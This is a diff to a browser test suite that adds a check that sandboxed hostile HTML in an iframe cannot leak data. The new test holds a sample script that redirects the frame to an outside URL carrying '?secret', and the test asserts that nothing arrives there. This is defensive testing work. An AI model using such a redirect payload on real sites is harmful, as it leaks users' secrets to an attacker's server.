@@ -100,10 +100,6 @@ test('a page of another site can neither open a wire, nor frame us, nor read a p
 function show(html: string, kind: 'frame' | 'inert'): Promise<{ t: string; [key: string]: unknown }[]> {
   return page.evaluate(
     async ([content, name]) => {
-      const policy = (
-        window as unknown as { trustedTypes: { createPolicy(n: string, p: object): { createHTML(s: string): string } } }
-      ).trustedTypes
-      void policy
       const frame = document.createElement('iframe')
       frame.setAttribute('sandbox', 'allow-scripts')
       frame.src = `${location.origin.replace('.localhost', '-out.localhost')}/${name}.html`
@@ -166,6 +162,12 @@ test('hostile HTML with its scripts runs in a place of its own, from which nothi
   expect(said.find((m) => m.t === 'height')?.['px']).toBeGreaterThanOrEqual(120)
   expect(reached.slice(before).filter((path) => path !== '/favicon.ico')).toEqual([])
   expect(page.url()).toBe(`${new URL(signIn).origin}/`)
+})
+
+test('the frame can not carry anything out by going elsewhere itself', async () => {
+  const before = reached.length
+  await show(`<script>setTimeout(() => { location.href = '${outsideUrl}/self?secret' }, 50)</script>`, 'frame')
+  expect(reached.slice(before)).toEqual([])
 })
 
 test('in the inert frame nothing runs at all', async () => {
